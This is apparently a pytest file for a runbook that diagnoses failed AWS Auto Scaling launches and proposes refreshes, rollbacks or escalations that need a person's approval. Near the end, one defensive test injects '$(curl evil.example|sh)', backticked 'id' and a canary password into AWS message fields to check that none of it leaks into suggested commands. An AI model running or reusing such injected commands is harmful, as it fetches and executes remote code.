@@ -1,0 +1,650 @@
+"""Every branch of the judgement: what is wrong tonight, and the sentence that it comes to."""
+
+import re
+from datetime import timedelta
+from typing import Any
+
+import pytest
+from msgspec.structs import replace
+
+from recover_failed_launches.case import Case
+from recover_failed_launches.causes import PASSING, Cause
+from recover_failed_launches.deaths import Trouble
+from recover_failed_launches.decide import RESUME, ROLL_BACK, START, decide
+from recover_failed_launches.facts import Judged
+from recover_failed_launches.fixes import of_launch, of_start
+from remediation.core.spec import TEAMS
+from remediation.core.verdict import Act, Attempt, Escalate, Nothing, Wait
+from tests.functions.fakes.launching import MINUTE
+from tests.functions.recover_failed_launches.nights import SETTINGS, Night
+from tests.functions.recover_failed_launches.texts import GUIDE, REPORTED
+
+GROUP_MISSING = "The security group 'sg-0000000000000dead' does not exist. Launching EC2 instance failed."
+NO_CAPACITY = (
+    "We currently do not have sufficient t3.small capacity in the Availability Zone you requested (us-east-1a)."
+)
+
+
+@pytest.fixture
+def night() -> Night:
+    """One of two instances serves, and the group makes no tries of its own."""
+    night = Night()
+    night.world.tries = False
+    night.world.add(1)
+    return night
+
+
+@pytest.fixture
+def broken(night: Night) -> Night:
+    """Version 8, twenty minutes old, names a security group that does not exist; version 7 serves."""
+    night.world.add_version(8, SecurityGroupIds=["sg-0000000000000dead"])
+    night.world.version = "8"
+    night.world.refusals["8"] = GROUP_MISSING
+    for minutes in (1, 2, 3):
+        night.world.fail(GROUP_MISSING, ago=minutes * MINUTE)
+    return night
+
+
+def escalated(night: Night) -> Escalate:
+    verdict = night.verdict()
+    assert isinstance(verdict, Escalate), verdict
+    assert verdict.about == "dev-backend-asg"
+    return verdict
+
+
+def waited(night: Night) -> Wait:
+    verdict = night.verdict()
+    assert isinstance(verdict, Wait), verdict
+    return verdict
+
+
+def acted(night: Night) -> Act[Judged]:
+    verdict = night.verdict()
+    assert isinstance(verdict, Act), verdict
+    assert verdict.approval is not None, "nothing is done without a person's yes"
+    assert verdict.resource == "autoscaling-group/dev-backend-asg"
+    return verdict
+
+
+# ------------------------------------------------------------------------------------------------------- all is well
+
+
+def test_a_complete_group_needs_nothing(night: Night) -> None:
+    night.world.add(1)
+    verdict = night.verdict()
+    assert verdict == Nothing(because="dev-backend-asg has 2 of 2 instances in service; nothing is missing.")
+
+
+def test_failures_that_were_made_up_for_need_nothing(night: Night) -> None:
+    night.world.fail(NO_CAPACITY, ago=5 * MINUTE)
+    night.world.add(1, age=MINUTE)
+    assert isinstance(night.verdict(), Nothing)
+
+
+def test_a_failure_before_the_last_success_is_not_what_keeps_it_short(night: Night) -> None:
+    night.world.desired = 3
+    night.world.fail(GROUP_MISSING, ago=5 * MINUTE)
+    night.world.add(1, age=MINUTE)
+    assert "no launch has failed lately" in escalated(night).because
+
+
+def test_a_group_that_does_not_publish_what_our_alarm_watches_is_told(night: Night) -> None:
+    night.world.add(1)
+    night.world.metrics = ()
+    verdict = night.verdict()
+    assert isinstance(verdict, Nothing)
+    assert verdict.tell is not None
+    assert verdict.tell.id == "dev-backend-asg|metrics"
+    assert "does not publish GroupInServiceInstances" in verdict.because
+    assert verdict.next_steps[0].startswith("aws autoscaling enable-metrics-collection --auto-scaling-group-name")
+
+
+def test_a_group_that_does_not_exist_is_said(night: Night) -> None:
+    night.world.exists = False
+    assert escalated(night).because.startswith("There is no Auto Scaling group dev-backend-asg in us-east-1:")
+
+
+# ------------------------------------------------------------------------------------------ what passes by itself
+
+
+def test_a_shortage_of_capacity_is_waited_for_and_the_other_zones_are_shown(night: Night) -> None:
+    night.world.fail(NO_CAPACITY)
+    verdict = waited(night)
+    assert verdict.because == (
+        "dev-backend-asg has 1 of 2 instances in service. 1 launch failed at 03:39:00 UTC in us-east-1a: EC2 has no t3.small"
+        " capacity there now; dev-backend-asg may use us-east-1a, us-east-1b (t3.small is offered in us-east-1a, us-east-1b,"
+        " us-east-1c). Auto Scaling goes on trying by itself."
+    )
+    assert (verdict.for_, verdict.stand_down) == (timedelta(minutes=2), False)
+
+
+def test_a_shortage_that_lasts_is_a_persons(night: Night) -> None:
+    for minutes in range(1, 26, 4):
+        night.world.fail(NO_CAPACITY, ago=minutes * MINUTE)
+    assert escalated(night).because.endswith("That has not passed for 25 min.")
+
+
+@pytest.mark.parametrize("cause", sorted(PASSING))
+def test_whatever_passes_is_waited_for(night: Night, cause: Cause) -> None:
+    night.world.fail(next(text for known, text in (*GUIDE, *REPORTED) if known is cause))
+    assert waited(night).because.endswith("Auto Scaling goes on trying by itself.")
+
+
+def test_what_does_not_pass_is_named_before_what_does(night: Night) -> None:
+    night.world.fail("There are not enough free addresses in subnet 'subnet-2'.", ago=2 * MINUTE, zone="us-east-1b")
+    night.world.fail(NO_CAPACITY)
+    assert "failed since 03:38:00 UTC in us-east-1b: the subnet has no free addresses" in escalated(night).because
+
+
+# -------------------------------------------------------------------------------------------- what somebody has to mend
+
+
+@pytest.mark.parametrize(
+    ("cause", "text"),
+    [each for each in (*GUIDE, *REPORTED) if each[0] not in PASSING],
+    ids=lambda value: str(value)[:50],
+)
+def test_every_other_cause_is_named_to_the_team_with_a_command(night: Night, cause: Cause, text: str) -> None:
+    night.world.fail(text)
+    verdict = escalated(night)
+    why = of_launch(Case(night.look(), SETTINGS, (), night.steps.now), cause).why
+    assert verdict.because == (
+        f"dev-backend-asg has 1 of 2 instances in service. 1 launch failed at 03:39:00 UTC in us-east-1a: {why}."
+    )
+    assert any(step.startswith("aws ") for step in verdict.next_steps)
+    assert (verdict.team or "infrastructure") in TEAMS
+
+
+def test_every_cause_and_every_trouble_has_words_of_its_own(night: Night) -> None:
+    case = Case(night.look(), SETTINGS, (), night.steps.now)
+    words = [of_launch(case, cause).why for cause in Cause] + [of_start(case, trouble).why for trouble in Trouble]
+    assert len(set(words)) == len(Cause) + len(Trouble)
+    assert not [why for why in words if why.endswith(".")], "they end a sentence, which has its own stop"
+
+
+def test_the_quota_is_asked_for_where_it_is_the_reason_and_only_there(night: Night) -> None:
+    night.world.fail("You have requested more vCPU capacity than your current vCPU limit of 32 allows for the bucket.")
+    verdict = escalated(night)
+    assert "the account's quota of running instances (32 vCPUs) is used up" in verdict.because
+    assert verdict.next_steps[0] == (
+        "aws service-quotas request-service-quota-increase --service-code ec2 --quota-code L-1216C47A --desired-value 64"
+        " --region us-east-1"
+    )
+    other = Night()
+    other.world.fail(GROUP_MISSING)
+    other.look()
+    assert other.aws.calls.of("GetServiceQuota") == []
+
+
+def test_an_old_failure_is_not_what_is_wrong_now(night: Night) -> None:
+    night.world.fail(GROUP_MISSING, ago=timedelta(hours=2))
+    assert escalated(night).because == (
+        "dev-backend-asg has 1 of 2 instances in service, no launch has failed lately and none is under way: why it does not"
+        " launch is not known."
+    )
+
+
+# ----------------------------------------------------------------------------- a version that is broken, and the one before
+
+
+def test_a_broken_version_is_taken_back_by_a_refresh_with_the_last_good_one(broken: Night) -> None:
+    act = acted(broken)
+    assert (act.action, act.target.id) == (START, "dev-backend-asg")
+    assert act.because == (
+        "Start an instance refresh with version 7. dev-backend-asg has 1 of 2 instances in service. 3 launches failed since"
+        " 03:37:00 UTC in us-east-1a: the security group sg-0000000000000dead of version 8 of the launch template does not"
+        " exist. Version 8 is the first to fail, and version 7 works: 1 instance in service."
+    )
+    assert "next terraform apply launches version 8" in act.drift
+    assert act.approval is not None
+    assert act.approval.because == "It undoes a deploy: the instances of version 8 are replaced by version 7."
+
+
+def test_without_the_right_to_launch_a_person_gets_the_command(broken: Night) -> None:
+    broken.settings = replace(SETTINGS, may_launch=False)
+    verdict = escalated(broken)
+    assert verdict.because.endswith("Start an instance refresh with version 7: this runbook may not.")
+    assert verdict.next_steps[0].startswith("aws autoscaling start-instance-refresh --auto-scaling-group-name")
+    assert '"Version":"7"' in verdict.next_steps[0]
+
+
+def test_the_refresh_that_is_on_is_rolled_back(broken: Night) -> None:
+    broken.world.version = "7"
+    refresh = broken.world.refresh("InProgress", version="8")
+    act = acted(broken)
+    assert (act.action, act.target.refresh) == (ROLL_BACK, refresh.id)
+    assert act.because.startswith(f"Roll the instance refresh {refresh.id} back. ")
+
+
+@pytest.mark.parametrize(
+    ("group", "refresh"), [("8", ""), ("$Latest", "8"), ("8", "8")], ids=["no desired", "$Latest", "to itself"]
+)
+def test_a_refresh_that_cannot_be_rolled_back_is_a_persons(broken: Night, group: str, refresh: str) -> None:
+    broken.world.version = group
+    broken.world.refresh("InProgress", version=refresh)
+    verdict = escalated(broken)
+    assert verdict.because.endswith("that is on cannot be rolled back to it: cancel it, then start one.")
+    assert [step.split()[2] for step in verdict.next_steps[:2]] == ["cancel-instance-refresh", "start-instance-refresh"]
+
+
+def test_latest_is_known_by_its_number(broken: Night) -> None:
+    broken.world.version = "$Latest"
+    act = acted(broken)
+    assert (act.target.bad, act.target.good) == ("8", "7")
+
+
+def spoil_nobody_serves(night: Night) -> None:
+    for each in night.world.instances.values():
+        each.healthy = False
+
+
+def spoil_one_serves_with_the_new(night: Night) -> None:
+    night.world.desired = 3
+    night.world.add(1, version="8", age=30 * MINUTE)
+
+
+def spoil_it_failed_before_it_existed(night: Night) -> None:
+    night.world.made[8] = night.steps.now
+
+
+def spoil_the_old_one_names_it_too(night: Night) -> None:
+    night.world.versions[7]["SecurityGroupIds"] = ["sg-0000000000000dead"]
+
+
+def spoil_the_old_image_is_gone(night: Night) -> None:
+    night.world.images.clear()
+
+
+def spoil_the_old_image_cannot_be_read(night: Night) -> None:
+    night.world.unreadable.add("ec2:DescribeImages")
+
+
+def spoil_the_old_groups_cannot_be_read(night: Night) -> None:
+    night.world.unreadable.add("ec2:DescribeSecurityGroups")
+
+
+def spoil_the_old_tag_is_gone(night: Night) -> None:
+    night.world.tags.clear()
+
+
+def spoil_the_cause_is_another(night: Night) -> None:
+    night.world.fail("There are not enough free addresses in subnet 'subnet-1'.", ago=timedelta(seconds=5))
+
+
+def spoil_the_profile_is_empty(night: Night) -> None:
+    night.world.role = ""
+
+
+def spoil_the_group_mixes_types(night: Night) -> None:
+    night.world.mixed = True
+
+
+SPOILS = [value for name, value in sorted(globals().items()) if name.startswith("spoil_")]
+
+
+@pytest.mark.parametrize("spoil", SPOILS, ids=lambda spoil: spoil.__name__)
+def test_no_version_is_taken_back_unless_every_proof_is_there(broken: Night, spoil: object) -> None:
+    assert isinstance(broken.verdict(), Act), "the proof is complete before"
+    spoil(broken)  # type: ignore[operator]
+    assert isinstance(broken.verdict(), Escalate)
+
+
+@pytest.mark.parametrize(
+    ("text", "changes"),
+    [
+        ("The AMI ID 'ami-0000000000000dead' does not exist.", {"ImageId": "ami-0000000000000dead"}),
+        ("The requested configuration is currently not supported.", {"InstanceType": "t4g.small"}),
+        ("Your requested instance type (x9.small) is not supported in your requested Availability Zone", {"InstanceType": "x9.small"}),
+        ("The key pair 'gone' does not exist.", {"KeyName": "gone"}),
+        ("Invalid IAM Instance Profile name", {"IamInstanceProfile": {"Name": "gone"}}),
+        ("Invalid device name /dev/sdzz", {"BlockDeviceMappings": [{"DeviceName": "/dev/sdzz"}]}),
+        ("Client.InvalidSnapshot.NotFound", {"BlockDeviceMappings": [{"DeviceName": "/dev/sdb"}]}),
+        ("Client.InternalError: Client error on launch", {"BlockDeviceMappings": [{"DeviceName": "/dev/sdb"}]}),
+        ("Placement groups may not be used with instances of type 't3.small'", {"Placement": {"GroupName": "near"}}),
+    ],
+)  # fmt: skip
+def test_a_version_is_blamed_for_what_it_does_differently_and_only_for_that(
+    night: Night, text: str, changes: dict[str, Any]
+) -> None:
+    night.world.version = "8"
+    night.world.fail(text)
+    night.world.add_version(8, **changes)
+    assert acted(night).action == START
+    night.world.add_version(8)
+    assert isinstance(night.verdict(), Escalate), "the two versions are the same"
+
+
+def test_what_is_said_to_be_missing_and_is_there_by_now_proves_nothing(broken: Night) -> None:
+    broken.world.groups.add("sg-0000000000000dead")
+    assert "a security group of version 8 of the launch template does not exist" in escalated(broken).because
+
+
+def test_an_image_that_is_there_by_now_proves_nothing(night: Night) -> None:
+    night.world.add_version(8, ImageId="ami-0000000000000000b")
+    night.world.version = "8"
+    night.world.fail("The AMI ID 'ami-0000000000000000b' does not exist.")
+    assert acted(night).action == START
+    night.world.images["ami-0000000000000000b"] = "available"
+    assert isinstance(night.verdict(), Escalate)
+
+
+def test_an_earlier_version_whose_security_groups_are_gone_is_none_to_go_back_to(night: Night) -> None:
+    night.world.add_version(8, KeyName="gone")
+    night.world.version = "8"
+    night.world.fail("The key pair 'gone' does not exist.")
+    assert acted(night).action == START
+    night.world.groups.clear()
+    assert isinstance(night.verdict(), Escalate)
+
+
+# ---------------------------------------------------------------------------------------- instances that launch and die
+
+
+def test_a_tag_that_ecr_does_not_have_is_the_applications(night: Night) -> None:
+    night.world.tags.clear()
+    night.world.die(ago=5 * MINUTE)
+    night.world.die()
+    verdict = escalated(night)
+    assert verdict.because == (
+        "dev-backend-asg has 1 of 2 instances in service; 2 instances came up and died again since 03:35:00 UTC: ECR does not"
+        " have dev-starttech-backend:v7."
+    )
+    assert verdict.team == "application"
+    assert verdict.next_steps[0].startswith("aws ecr describe-images --repository-name dev-starttech-backend")
+
+
+def test_a_role_that_may_not_pull_is_named_with_what_it_lacks(night: Night) -> None:
+    night.world.denied = {"ecr:BatchGetImage"}
+    night.world.die()
+    night.world.die()
+    verdict = escalated(night)
+    assert verdict.because.endswith("dev-ec2-role may not pull from ECR (ecr:BatchGetImage).")
+    assert verdict.next_steps[0].startswith(
+        "aws iam simulate-principal-policy --policy-source-arn arn:aws:iam::123456789012:role/"
+    )
+
+
+@pytest.mark.parametrize(
+    ("way", "route", "says"), [("", "active", "has no default route"), ("nat-1", "blackhole", "is gone")]
+)
+def test_a_subnet_without_a_way_out_is_named(night: Night, way: str, route: str, says: str) -> None:
+    night.world.way, night.world.route = way, route
+    night.world.die()
+    night.world.die()
+    verdict = escalated(night)
+    assert "they cannot reach ECR: subnet-1" in verdict.because
+    assert says in verdict.because
+
+
+LOGS = [
+    ("manifest for x/dev-starttech-backend:v9 not found: manifest unknown", Trouble.NO_TAG),
+    ("no basic auth credentials", Trouble.NO_RIGHT),
+    ("dial tcp 10.0.0.1:443: i/o timeout", Trouble.NO_WAY),
+    ("write /var/lib/docker: no space left on device", Trouble.NO_SPACE),
+    ("exec /app: exec format error", Trouble.ARCHITECTURE),
+    ("Cannot connect to the Docker daemon at unix:///var/run/docker.sock", Trouble.NO_DOCKER),
+]
+
+
+@pytest.mark.parametrize(("log", "trouble"), LOGS)
+def test_what_an_instance_logs_is_a_cause(night: Night, log: str, trouble: Trouble) -> None:
+    (ill,) = night.world.add(1, age=15 * MINUTE)
+    ill.healthy, ill.container, ill.log = False, "missing", f"cloud-init starts\n{log}\n"
+    verdict = escalated(night)
+    fix = of_start(Case(night.look(), SETTINGS, (), night.steps.now), trouble)
+    assert verdict.because == (
+        f"dev-backend-asg has 1 of 2 instances in service; instances were launched and do not come up: {fix.why}."
+    )
+
+
+@pytest.mark.parametrize(
+    ("container", "cloud_init", "says"),
+    [
+        ("exited", "done", "the container is there and does not keep running"),
+        ("missing", "error", "user data ended without having started the container"),
+    ],
+)
+def test_an_instance_without_its_container_is_a_cause(night: Night, container: str, cloud_init: str, says: str) -> None:
+    (ill,) = night.world.add(1, age=15 * MINUTE)
+    ill.healthy, ill.container, ill.cloud_init = False, container, cloud_init
+    assert escalated(night).because.endswith(f": {says}.")
+
+
+def test_what_ec2_says_of_an_end_is_a_cause(night: Night) -> None:
+    for _ in range(2):
+        night.world.die(code="Client.VolumeLimitExceeded", reason="Client.VolumeLimitExceeded: Volume limit exceeded")
+    assert escalated(night).because.endswith("the account's quota of EBS volumes is used up.")
+
+
+def test_how_the_group_ended_an_instance_is_none(night: Night) -> None:
+    for _ in range(2):
+        night.world.die(
+            code="Client.UserInitiatedShutdown", reason="Client.UserInitiatedShutdown: User initiated shutdown"
+        )
+    assert "neither AWS nor the instances say why" in escalated(night).because
+
+
+def test_one_death_is_no_loop(night: Night) -> None:
+    night.world.die()
+    assert "why it does not launch is not known" in escalated(night).because
+
+
+def test_an_instance_that_served_for_days_and_died_is_none_of_them(night: Night) -> None:
+    night.world.die(lived=timedelta(days=2))
+    night.world.die(lived=timedelta(days=2))
+    assert "died again" not in escalated(night).because
+
+
+def test_a_young_instance_that_the_group_had_one_too_many_of_did_not_die(night: Night) -> None:
+    for _ in range(2):
+        night.world.die()
+        night.world.activities[0]["Cause"] = (
+            "an instance was taken out of service in response to a user request, shrinking"
+        )
+    assert night.look().died == ()
+    assert "died again" not in escalated(night).because
+
+
+def test_a_version_whose_instances_die_while_the_old_ones_serve_is_taken_back(night: Night) -> None:
+    night.world.add_version(8, tag="v8")
+    night.world.version = "8"
+    night.world.die(version="8", ago=4 * MINUTE)
+    night.world.die(version="8")
+    act = acted(night)
+    assert (act.action, act.target.bad, act.target.good) == (START, "8", "7")
+    assert (
+        "2 instances came up and died again since 03:36:00 UTC: ECR does not have dev-starttech-backend:v8."
+        in act.because
+    )
+
+
+def test_where_old_ones_die_as_well_no_version_is_blamed(night: Night) -> None:
+    night.world.add_version(8, tag="v8")
+    night.world.version = "8"
+    night.world.die(version="8", ago=4 * MINUTE)
+    night.world.die(version="8", ago=3 * MINUTE)
+    assert isinstance(night.verdict(), Act)
+    night.world.die(version="7")
+    assert isinstance(night.verdict(), Escalate)
+
+
+def test_a_launch_that_takes_too_long_is_a_persons(night: Night) -> None:
+    night.world.log(
+        "PreInService", "Launching a new EC2 instance: i-00000000000000099", at=night.steps.now - 11 * MINUTE
+    )
+    assert "instances were launched and do not come up" in escalated(night).because
+
+
+def test_a_launch_under_way_is_waited_for(night: Night) -> None:
+    night.world.log(
+        "PreInService", "Launching a new EC2 instance: i-00000000000000099", at=night.steps.now - 9 * MINUTE
+    )
+    assert waited(night).because == (
+        "dev-backend-asg has 1 of 2 instances in service; 1 launch under way since 03:31:00 UTC."
+    )
+
+
+@pytest.mark.parametrize(("ago", "kind"), [(9, Wait), (11, Escalate)])
+def test_what_was_done_gets_the_time_that_an_instance_takes(night: Night, ago: int, kind: type[object]) -> None:
+    done = Attempt(
+        action=RESUME,
+        target=Judged(id="dev-backend-asg/Launch"),
+        at=night.steps.now - ago * MINUTE,
+        result="done",
+        receipt="Launch of dev-backend-asg is resumed.",
+    )
+    assert isinstance(decide(night.look(), SETTINGS, (done,), night.steps.now), kind)
+
+
+# ------------------------------------------------------------------------------------------------ suspended processes
+
+
+def test_a_process_that_an_ended_maintenance_left_suspended_is_resumed(night: Night) -> None:
+    night.world.suspended = {"AZRebalance": "User suspended at 2026-11-20T01:00:00Z", "Launch": "User suspended at 2026-11-22T19:00:00Z"}  # fmt: skip
+    act = acted(night)
+    assert (act.action, act.target.process) == (RESUME, "Launch")
+    assert act.because == (
+        "dev-backend-asg has 1 of 2 instances in service, and its process Launch is suspended since 2026-11-22 19:00 UTC. No"
+        " maintenance takes longer than 8 hours, so it was left behind by one that has ended."
+    )
+
+
+def test_a_process_that_was_suspended_just_now_is_left_to_whoever_did(night: Night) -> None:
+    night.world.suspended = {"Launch": "User suspended at 2026-11-23T03:00:00Z"}
+    verdict = waited(night)
+    assert verdict.stand_down
+    assert verdict.because.endswith("by a person since 03:00:00 UTC, 40 min ago: that may be a maintenance.")
+
+
+def test_where_nothing_serves_a_person_is_called_all_the_same(night: Night) -> None:
+    night.world.instances.clear()
+    night.world.suspended = {"Launch": "User suspended at 2026-11-23T03:00:00Z"}
+    verdict = escalated(night)
+    assert verdict.team == "critical"
+    assert verdict.next_steps[0] == (
+        "aws autoscaling resume-processes --auto-scaling-group-name dev-backend-asg --scaling-processes Launch --region us-east-1"
+    )
+
+
+@pytest.mark.parametrize("reason", ["Administrator suspended at 2026-11-20T01:00:00Z", "User suspended at noon", "User suspended at 2026-99-99T01:00:00Z"])  # fmt: skip
+def test_what_nobody_knows_by_whom_is_never_resumed(night: Night, reason: str) -> None:
+    night.world.suspended = {"Launch": reason}
+    assert "is suspended by AWS itself, or nobody knows by whom" in escalated(night).because
+
+
+def test_a_suspended_process_of_a_complete_group_is_left_alone(night: Night) -> None:
+    night.world.add(1)
+    night.world.suspended = {"Launch": "User suspended at 2026-11-20T01:00:00Z"}
+    assert isinstance(night.verdict(), Nothing)
+
+
+def test_a_complete_group_whose_deploy_failed_has_nothing_resumed(night: Night) -> None:
+    night.world.add(1)
+    night.world.refresh("Failed", version="7")
+    night.world.suspended = {"Launch": "User suspended at 2026-11-20T01:00:00Z"}
+    assert "ended with Failed" in escalated(night).because
+
+
+def test_a_process_that_keeps_nothing_from_launching_is_left_alone(night: Night) -> None:
+    night.world.suspended = {"AlarmNotification": "User suspended at 2026-11-20T01:00:00Z"}
+    assert isinstance(night.verdict(), Escalate)
+
+
+# ---------------------------------------------------------------------------------------- refreshes and terminations
+
+
+@pytest.mark.parametrize("status", ["Cancelling", "RollbackInProgress"])
+def test_a_refresh_that_is_taken_back_already_is_waited_for(broken: Night, status: str) -> None:
+    broken.world.refresh(status, version="8")
+    verdict = waited(broken)
+    assert verdict.stand_down
+    assert f"is {status}; dev-backend-asg has 1 of 2" in verdict.because
+
+
+def test_a_deploy_that_gets_on_is_left_alone(night: Night) -> None:
+    night.world.refresh("InProgress", version="7")
+    verdict = waited(night)
+    assert verdict.stand_down
+    assert verdict.because.endswith("is InProgress: a deploy is on.")
+
+
+def test_a_refresh_that_failed_without_a_failed_launch_is_the_applications(night: Night) -> None:
+    night.world.add(1)
+    refresh = night.world.refresh("Failed", version="7", reason="Warm-up failed")
+    verdict = escalated(night)
+    assert verdict.team == "application"
+    assert verdict.because.endswith(f"instance refresh {refresh.id} ended with Failed, and no launch failed lately.")
+    assert "Warm-up" not in verdict.because
+
+
+def test_a_refresh_that_failed_for_its_launches_is_told_with_their_cause(night: Night) -> None:
+    """The group goes on with the version that it had, so there is nothing to take back."""
+    night.world.add(1)
+    night.world.add_version(8, SecurityGroupIds=["sg-0000000000000dead"])
+    refresh = night.world.refresh("Failed", version="8")
+    night.world.fail(NO_CAPACITY, ago=2 * MINUTE)
+    night.world.fail(GROUP_MISSING, ago=3 * MINUTE)
+    night.world.add(1, age=MINUTE)
+    verdict = escalated(night)
+    fix = of_launch(Case(night.look(), SETTINGS, (), night.steps.now), Cause.SECURITY_GROUP)
+    assert verdict.because.endswith(
+        f"instance refresh {refresh.id} ended with Failed: 2 launches failed since 03:37:00 UTC in us-east-1a: {fix.why}."
+    )
+    assert verdict.team == fix.team
+    assert set(fix.steps) < set(verdict.next_steps)
+    assert any('AWS says: "The security group' in line for line in verdict.evidence)
+
+
+def test_what_fails_after_a_deploy_was_given_up_is_the_groups_own(night: Night) -> None:
+    night.world.add_version(8)
+    night.world.refresh("Failed", version="8").ended_at = night.steps.now - 5 * MINUTE
+    night.world.fail(GROUP_MISSING, ago=7 * MINUTE)
+    night.world.fail("Your Spot request price is lower", ago=MINUTE)
+    because = escalated(night).because
+    assert "1 launch failed at 03:39:00 UTC" in because
+    assert "refresh" not in because
+
+
+def test_a_failed_deploy_of_the_groups_own_version_hides_no_failure(broken: Night) -> None:
+    broken.world.refresh("Failed", version="8")
+    assert acted(broken).action == START
+
+
+def test_a_refresh_that_failed_long_ago_is_history(night: Night) -> None:
+    night.world.add(1)
+    night.world.refresh("Failed", version="7").ended_at = night.steps.now - timedelta(hours=2)
+    assert isinstance(night.verdict(), Nothing)
+
+
+def test_an_instance_that_cannot_be_terminated_is_said(night: Night) -> None:
+    night.world.add(1)
+    night.world.log("Failed", "Terminating EC2 instance: i-1", "You are not authorized to perform this operation.")
+    assert escalated(night).because == (
+        "dev-backend-asg has 2 of 2 instances in service. It could not terminate an instance at 03:40:00 UTC: Auto Scaling"
+        " lacks a permission that it takes."
+    )
+
+
+# ------------------------------------------------------------------------------------------------ what people are told
+
+
+def test_no_word_of_an_activity_is_in_a_sentence_or_in_a_command(broken: Night) -> None:
+    broken.world.fail(
+        "does not exist security group $(curl evil.example|sh) password=hunter2-canary `id` zzz", ago=MINUTE / 2
+    )
+    for suspended in ({}, {"Launch": "$(curl evil.example|sh)"}):
+        broken.world.suspended = suspended
+        verdict = broken.verdict()
+        assert isinstance(verdict, Act | Escalate)
+        ours = " ".join((verdict.because, *verdict.next_steps))
+        assert not re.search(r"evil|curl|hunter2|zzz", ours)
+        quoted = [line for line in verdict.evidence if "evil.example" in line]
+        assert quoted, "the evidence quotes it"
+        assert "hunter2" not in "".join(verdict.evidence)
+
+
+def test_no_line_of_evidence_is_long(broken: Night) -> None:
+    broken.world.fail("The security group z does not exist " + "x" * 5_000)
+    verdict = broken.verdict()
+    assert isinstance(verdict, Act)
+    assert max(map(len, verdict.evidence)) <= 620
